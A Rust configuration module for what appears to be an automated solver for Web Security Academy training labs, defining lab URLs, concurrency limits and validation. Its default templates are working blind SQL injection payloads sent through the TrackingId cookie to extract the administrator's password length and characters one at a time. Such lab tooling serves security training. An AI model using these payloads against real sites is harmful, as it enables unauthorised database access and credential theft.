// src/lab/config.rs
use std::path::{Path, PathBuf};

use regex::Regex;
use serde::{Deserialize, Serialize};
use url::Url;

use crate::error::SolverError;

/// Parent domain of every lab instance
pub const LAB_DOMAIN: &str = "web-security-academy.net";

/// Upper bound on concurrent character extractions
pub const MAX_CONCURRENCY: usize = 20;

/// Configuration for one lab instance
#[derive(Debug, Clone)]
pub struct LabConfig {
    /// Lab instance ID (subdomain of `LAB_DOMAIN`)
    pub server_id: String,
    /// Full root URL, replaces the one derived from `server_id`
    pub base_url: Option<String>,
    pub timeout_secs: u64,
    pub user_agent: String,
    pub follow_redirects: bool,
    pub max_concurrency: usize,
    /// Longest secret the length search considers
    pub max_length: usize,
    /// Candidate characters, strictly ascending
    pub charset: String,
    pub payload_config: PayloadConfig,
    pub payload_file: Option<PathBuf>,
}

impl Default for LabConfig {
    fn default() -> Self {
        Self {
            server_id: "00000000000000000000000000000000".to_string(),
            base_url: None,
            timeout_secs: 30,
            user_agent: "academy-solver/0.3".to_string(),
            follow_redirects: true,
            max_concurrency: 4,
            max_length: 64,
            charset: "0123456789abcdefghijklmnopqrstuvwxyz".to_string(),
            payload_config: PayloadConfig::default(),
            payload_file: None,
        }
    }
}

/// Probe payloads for the conditional-responses lab.
///
/// Templates understand `{tracking}` (original tracking cookie value),
/// `{username}`, `{position}` (1-based, character template only) and
/// `{value}` (the candidate being compared).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct PayloadConfig {
    /// Cookie carrying the injection
    pub tracking_cookie: String,
    /// Text present in the page only when the injected condition holds
    pub true_marker: String,
    /// Account whose password is extracted
    pub username: String,
    /// Condition "secret length > {value}"
    pub length_template: String,
    /// Condition "secret character at {position} > {value}"
    pub char_template: String,
    /// Condition "secret character at {position} = {value}"
    pub char_equals_template: String,
}

impl Default for PayloadConfig {
    fn default() -> Self {
        Self {
            tracking_cookie: "TrackingId".to_string(),
            true_marker: "Welcome back".to_string(),
            username: "administrator".to_string(),
            length_template: "{tracking}' AND (SELECT LENGTH(password) FROM users WHERE username='{username}')>{value}--".to_string(),
            char_template: "{tracking}' AND (SELECT SUBSTRING(password,{position},1) FROM users WHERE username='{username}')>'{value}'--".to_string(),
            char_equals_template: "{tracking}' AND (SELECT SUBSTRING(password,{position},1) FROM users WHERE username='{username}')='{value}'--".to_string(),
        }
    }
}

impl LabConfig {
    /// Root URL of the lab instance
    pub fn lab_url(&self) -> Result<Url, SolverError> {
        match &self.base_url {
            Some(base) => Ok(Url::parse(base)?),
            None => Ok(Url::parse(&format!("https://{}.{}/", self.server_id, LAB_DOMAIN))?),
        }
    }

    /// Candidate characters in search order
    pub fn candidates(&self) -> Vec<char> {
        self.charset.chars().collect()
    }

    pub fn validate(&self) -> Result<(), SolverError> {
        if self.base_url.is_none() {
            let server_id = Regex::new(r"^[0-9a-f]{32}$")
                .map_err(|e| SolverError::Config(format!("Invalid server ID pattern: {}", e)))?;
            if !server_id.is_match(&self.server_id) {
                return Err(SolverError::Config(
                    "Server ID must be 32 lowercase hex digits".to_string(),
                ));
            }
        }

        self.lab_url()
            .map_err(|e| SolverError::Config(format!("Invalid lab URL: {}", e)))?;

        if self.max_concurrency == 0 || self.max_concurrency > MAX_CONCURRENCY {
            return Err(SolverError::Config(format!(
                "Concurrency must be between 1 and {}",
                MAX_CONCURRENCY
            )));
        }

        if self.max_length == 0 {
            return Err(SolverError::Config("Maximum length must be at least 1".to_string()));
        }

        let charset = self.candidates();
        if charset.is_empty() {
            return Err(SolverError::Config("Charset must not be empty".to_string()));
        }
        if charset.windows(2).any(|pair| pair[0] >= pair[1]) {
            return Err(SolverError::Config(
                "Charset must be strictly ascending (sorted, no duplicates)".to_string(),
            ));
        }

        self.payload_config.validate()
    }

    pub fn load_payloads_from_file(path: &Path) -> Result<PayloadConfig, SolverError> {
        let content = std::fs::read_to_string(path).map_err(|e| {
            SolverError::Config(format!("Failed to read payload file {}: {}", path.display(), e))
        })?;

        let payloads: PayloadConfig = serde_yaml::from_str(&content)?;
        payloads.validate()?;
        Ok(payloads)
    }
}

impl PayloadConfig {
    pub fn validate(&self) -> Result<(), SolverError> {
        if self.tracking_cookie.is_empty() {
            return Err(SolverError::Config("Tracking cookie name must not be empty".to_string()));
        }
        if self.true_marker.is_empty() {
            return Err(SolverError::Config("True marker must not be empty".to_string()));
        }
        if !self.length_template.contains("{value}") {
            return Err(SolverError::Config("Length template needs a {value} placeholder".to_string()));
        }
        if !self.char_template.contains("{value}") || !self.char_template.contains("{position}") {
            return Err(SolverError::Config(
                "Character template needs {position} and {value} placeholders".to_string(),
            ));
        }
        if !self.char_equals_template.contains("{value}")
            || !self.char_equals_template.contains("{position}")
        {
            return Err(SolverError::Config(
                "Character equality template needs {position} and {value} placeholders".to_string(),
            ));
        }
        if [&self.length_template, &self.char_template, &self.char_equals_template]
            .iter()
            .any(|template| template.contains(';'))
        {
            return Err(SolverError::Config(
                "Templates must not contain ';' (it ends the cookie value)".to_string(),
            ));
        }
        Ok(())
    }
}
